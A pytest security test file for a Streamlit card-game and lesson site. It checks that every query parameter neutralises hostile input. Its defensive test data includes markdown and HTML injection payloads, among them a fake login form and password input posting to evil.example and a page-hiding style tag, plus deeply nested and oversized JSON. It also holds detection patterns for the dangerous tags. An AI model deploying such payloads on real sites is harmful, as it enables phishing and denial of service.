"""Hostile links (issue 11): every page, every query parameter it reads, hostile values.

Which parameters a page reads is found by running it and recording every key it asks
``st.query_params`` for (pages that read the whole query, the lesson pages, add the keys
of :func:`ui.classroom.deck.read_link`), so a parameter added later is covered too.

For each page two sets of runs go through AppTest (:mod:`ui.apptest`):

* one run per hostile value with *every* parameter of the page set to it;
* one run per parameter with a markdown link and an address in it alone (so that no
  other bad value makes the page stop before it reads that one), and the packed values
  only some parameters carry (deep JSON in ``l=`` and ``sheet=``, a hostile lesson).

A run must end within the AppTest timeout (work refused or bounded) with no exception
element, and no element may carry the payload as live markup: no markdown link or image,
no bare URL that Streamlit would turn into a link, no raw HTML tag, and in ``st.html`` no
form, input, style, script, iframe, foreign image or link to another site.
"""

from __future__ import annotations

import base64
import json
import re
import zlib
from collections.abc import Iterator
from functools import cache
from html.parser import HTMLParser
from typing import Any

import pytest
from google.protobuf.json_format import MessageToDict
from streamlit.runtime.state.query_params_proxy import QueryParamsProxy
from streamlit.testing.v1 import AppTest

from ui.apptest import open_site
from ui.navigation import registered

PAGE_FILES = [p.file for p in registered()]
#: Keys the lesson pages read through ``st.query_params.to_dict()`` (ui.classroom.deck.read_link).
WHOLE_QUERY_KEYS = ("lesson", "l", "step", "view")
EVIL = "evil.example"

MARKUP_LINK = "[Official login](https://evil.example/x)"
#: A link and an address in under 40 characters (the length echoed before clipping).
ALONE = "[x](http://evil.example) a@evil.example"
PAYLOADS: dict[str, str] = {
    "huge": "9" * 4000,
    "negative": "-99999999999999999999",
    "non-numeric": "12abc",
    "long": "x" * 10_000,
    "md-link": MARKUP_LINK,
    "md-image": "![x](https://evil.example/p.png)",
    "bare-url": "https://evil.example/login www.evil.example me@evil.example",
    "html": ('<img src="https://evil.example/i.png"><form action="https://evil.example/f">'
             '<input name="p"></form><style>body{display:none}/*evil.example*/</style>'
             '<a href="https://evil.example">Log in</a>'),
    "control": "\x00\x07\x1b[31m\u202eevil.example\r\nnext\tline\x7f",
    "deep-json": "[" * 10_000,
    "many": "strong," * 2000,
}


def _packed(prefix: str, text: str) -> str:
    return prefix + base64.urlsafe_b64encode(zlib.compress(text.encode(), 9)).decode().rstrip("=")


HOSTILE_LESSON = {
    "format": "rules-lab-lesson/1",
    "title": MARKUP_LINK + ' <img src="https://evil.example/t.png">',
    "summary": ('Welcome. <form action="https://evil.example/f"><input name="pw">'
                '<button>Log in to continue</button></form> [Log in](https://evil.example/l) '
                '<a href="//evil.example/a">again</a> <img src="https://evil.example/p.png">'
                '<style>body{display:none}/*evil.example*/</style> https://evil.example/bare'),
    "items": [{"quiz": "kachuful", "topics": ["K-9"], "seed": 7, "count": 1,
               "title": "![x](https://evil.example/q.png)",
               "note": "<b>https://evil.example/n</b> [n](https://evil.example/n)"}],
}
#: The explorers' smallest amounts of work, for the runs about one other parameter (the
#: runs with every parameter hostile ask for the most work the bounds allow).
LIGHT = {"samples": "50", "deals": "20", "games": "10"}
#: Values only some parameters can carry: packed JSON that is nested 150,000 levels deep,
#: and a well-formed lesson whose every text is hostile.
SPECIAL: dict[str, dict[str, str]] = {
    "l": {"deep-packed": _packed("1.", "[" * 150_000),
          "hostile-lesson": _packed("1.", json.dumps(HOSTILE_LESSON))},
    "sheet": {"deep-k": _packed("k1.", "[" * 150_000), "deep-c": _packed("c1.", "[" * 150_000)},
}


# -- which parameters a page reads ------------------------------------------------------------


@cache
def params_read(page: str) -> tuple[str, ...]:
    """The query keys ``page`` reads on a plain visit (besides ``lang`` and ``deck``, read
    by every page and so checked with each)."""
    seen: set[str] = set()
    originals = {name: getattr(QueryParamsProxy, name)
                 for name in ("get", "__getitem__", "__contains__", "get_all", "to_dict")}

    def recording(name: str) -> Any:
        original = originals[name]
        if name == "to_dict":
            def whole(self: Any) -> Any:
                seen.update(WHOLE_QUERY_KEYS)
                return original(self)
            return whole

        def one(self: Any, key: str, *args: Any, **kwargs: Any) -> Any:
            seen.add(key)
            return original(self, key, *args, **kwargs)
        return one

    for name in originals:
        setattr(QueryParamsProxy, name, recording(name))
    try:
        open_site(page)
    finally:
        for name, original in originals.items():
            setattr(QueryParamsProxy, name, original)
    return tuple(sorted(seen))


# -- what counts as live markup ---------------------------------------------------------------

_ESCAPE = re.compile(r"\\([!-/:-@\[-`{-~])")
#: ``[text](…evil…)`` / ``![alt](…evil…)`` whose brackets are not escaped.
_LIVE_LINK = re.compile(r"(?<!\\)\]\((?:[^)\\]|\\.)*evil\.example", re.IGNORECASE)
#: What GFM autolinks in text once the escapes are resolved (Streamlit does this after
#: parsing, so backslashes alone do not stop it).
_AUTOLINK = re.compile(r"(?:https?://|www\.)[^\s]*evil\.example|[\w.+-]@evil\.example|"
                       r"www\.evil\.example", re.IGNORECASE)
_RAW_TAG = re.compile(r"(?<!\\)<\s*/?\s*(?:img|form|input|style|iframe|a|script|svg|object|"
                      r"embed|link|meta|button|textarea)\b", re.IGNORECASE)
_LITERAL_TYPES = {"code", "text", "json", "exception"}
#: Widgets whose options Streamlit draws as plain text, not markdown.
_PLAIN_OPTIONS = {"selectbox", "multiselect", "select_slider"}
#: Proto fields that hold a widget's value or an id, not text drawn as markdown.
_VALUE_FIELDS = {"id", "formId", "default", "value", "values", "rawValues", "defaultValue",
                 "stringValue", "rawValue", "placeholder", "stringTriggerValue", "data"}


def markdown_faults(text: str) -> list[str]:
    """Why ``text``, drawn as Streamlit markdown, would show the payload as markup."""
    faults = []
    if _LIVE_LINK.search(text):
        faults.append("markdown link/image to evil.example")
    if _AUTOLINK.search(_ESCAPE.sub(r"\1", text)):
        faults.append("bare URL that autolinks")
    if EVIL in _ESCAPE.sub(r"\1", text).lower() and _RAW_TAG.search(text):
        faults.append("raw HTML tag")
    return faults


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {k: v or "" for k, v in attrs}
        if tag in ("form", "input", "button", "textarea", "iframe", "script", "object",
                   "embed", "meta", "link", "base"):
            self.faults.append(f"<{tag}>")
        if tag == "style":
            self._in_style = True
        if tag == "img" and not values.get("src", "").startswith("data:"):
            self.faults.append(f"<img src={values.get('src')!r}>")
        if tag == "a":
            href = values.get("href", "")
            if EVIL in href or href.startswith(("//", "/\\")) or re.match(r"[a-z][a-z0-9+.-]*:",
                                                                          href, re.I):
                self.faults.append(f"<a href={href!r}>")
        for name, value in values.items():
            if name.startswith("on") or (name == "style" and EVIL in value):
                self.faults.append(f"{tag}[{name}]")

    def handle_endtag(self, tag: str) -> None:
        if tag == "style":
            self._in_style = False

    def handle_data(self, data: str) -> None:
        if self._in_style and EVIL in data:
            self.faults.append("<style> from the payload")


def html_faults(fragment: str) -> list[str]:
    parser = _Tags()
    parser.feed(fragment)
    parser.close()
    return parser.faults


def _strings(value: Any, field: str = "") -> Iterator[tuple[str, str]]:
    if isinstance(value, str):
        yield field, value
    elif isinstance(value, dict):
        for key, item in value.items():
            if key not in _VALUE_FIELDS:
                yield from _strings(item, key)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item, field)


def _nodes(node: Any) -> Iterator[Any]:
    yield node
    for child in getattr(node, "children", {}).values():
        yield from _nodes(child)


def page_faults(at: AppTest) -> list[str]:
    """Every exception element and every element that shows the payload as markup."""
    faults = []
    for node in _nodes(at._tree):
        kind = getattr(node, "type", "")
        proto = getattr(node, "proto", None)
        if kind == "exception":
            faults.append(f"exception: {getattr(node, 'message', '')[:300]}")
            continue
        if proto is None or kind in _LITERAL_TYPES or not hasattr(proto, "DESCRIPTOR"):
            continue
        if kind == "html":
            # Every markup payload names evil.example; the page's own HTML (its styles and
            # scripts) does not.
            if EVIL in proto.body.lower():
                faults.extend(f"st.html: {f}" for f in html_faults(proto.body))
            continue
        for field, text in _strings(MessageToDict(proto)):
            if field == "options" and kind in _PLAIN_OPTIONS:
                continue  # drawn as plain text (checked in the browser test)
            if field in ("url", "href", "page", "src") and EVIL in text:
                faults.append(f"{kind}.{field} -> {text[:80]}")
            faults.extend(f"{kind}.{field}: {f}: {text[:120]!r}" for f in markdown_faults(text))
    return faults


def run(page: str, query: dict[str, str]) -> AppTest:
    return open_site(page, timeout=60, **query)


# -- the checks of the checker ----------------------------------------------------------------


def test_the_checker_sees_live_markup() -> None:
    assert markdown_faults(MARKUP_LINK)
    assert markdown_faults("see https://evil.example/login")
    assert markdown_faults("https\\:\\/\\/evil\\.example")  # escaped, still autolinked
    assert markdown_faults("me@evil.example") and markdown_faults("www.evil.example")
    assert markdown_faults('<img src="https://evil.example/p.png">')
    assert not markdown_faults("\\[Official login\\]\\(https\\:\u2060\\/\\/evil\\.example\\/x\\)")
    assert html_faults('<form action="x"><input></form>') == ["<form>", "<input>"]
    assert html_faults('<a href="https://evil.example">x</a><img src="https://evil.example">')
    assert not html_faults('<a href="kachuful_rules#K-9">K-9</a><style>.rl{}</style>')


def test_every_page_reports_the_parameters_it_reads() -> None:
    """The discovery works: the pages known to read the link are seen reading it."""
    assert "players" in params_read("pages/explore_hook.py")
    assert {"l", "lesson", "step"} <= set(params_read("pages/classroom.py"))
    assert "bots" in params_read("pages/kachuful_play.py")
    assert "sheet" in params_read("pages/krypkasino_scorekeeper.py")


# -- the pages --------------------------------------------------------------------------------


@pytest.mark.slow
@pytest.mark.parametrize("payload", list(PAYLOADS))
@pytest.mark.parametrize("page", PAGE_FILES)
def test_every_parameter_of_a_page_at_once(page: str, payload: str) -> None:
    keys = ("lang", "deck", *params_read(page))
    at = run(page, {k: PAYLOADS[payload] for k in keys})
    assert not page_faults(at), page_faults(at)


@pytest.mark.slow
@pytest.mark.parametrize("page", PAGE_FILES)
def test_each_parameter_alone(page: str) -> None:
    """Each parameter alone with a markdown link and an address (short enough to be echoed
    whole), then its special values (packed JSON)."""
    faults: dict[str, list[str]] = {}
    light = {k: v for k, v in LIGHT.items() if k in params_read(page)}
    for key in ("lang", *params_read(page)):
        for name, value in {"markup": ALONE, **SPECIAL.get(key, {})}.items():
            found = page_faults(run(page, {**light, key: value}))
            if found:
                faults[f"{key}={name}"] = found
    assert not faults, faults


# -- pasted records on the play pages ---------------------------------------------------------

PASTES = {
    "deep": "[" * 150_000,
    "deep-in-a-record": '{"format": "kachuful-record/1", "players": ' + "[" * 150_000,
    "too-large": '{"format": "' + "z" * 2_100_000 + '"}',
    "markup-key": json.dumps({"format": "kachuful-record/1", MARKUP_LINK + "\n<img src=x>": 1}),
}


@pytest.mark.parametrize("paste", list(PASTES))
@pytest.mark.parametrize(("page", "prefix"), [("pages/kachuful_play.py", "kplay."),
                                              ("pages/krypkasino_play.py", "cplay.")])
def test_a_hostile_pasted_record_is_refused_in_a_sentence(page: str, prefix: str,
                                                          paste: str) -> None:
    at = run(page, {})
    at.text_area(key=prefix + "paste").set_value(PASTES[paste]).run()
    at.button(key=prefix + "paste.load").click().run()
    assert not page_faults(at), page_faults(at)
    message = " ".join(e.value for e in at.error)
    assert message and len(message) < 600, message[:600]
    if paste.startswith("deep"):
        assert "32 levels" in message


def test_a_deep_or_huge_lesson_file_or_link_is_refused_in_a_sentence() -> None:
    """The lesson upload reads the file with these limits, as the links do."""
    from engine.recordio import load_json
    from tutorials import lessons

    for data in (b"[" * 150_000, b'{"title": ' + b"[" * 40 + b"]" * 40 + b"}",
                 b'{"format": "' + b"z" * 600_000 + b'"}'):
        with pytest.raises(lessons.LessonError) as refused:
            lessons.parse(data, "upload")
        assert len(str(refused.value)) < 200
    with pytest.raises(ValueError):  # what the page's upload catches
        load_json(b"[" * 150_000, max_chars=lessons.MAX_FILE)
    with pytest.raises(lessons.LessonError):
        lessons.decode_link(SPECIAL["l"]["deep-packed"])
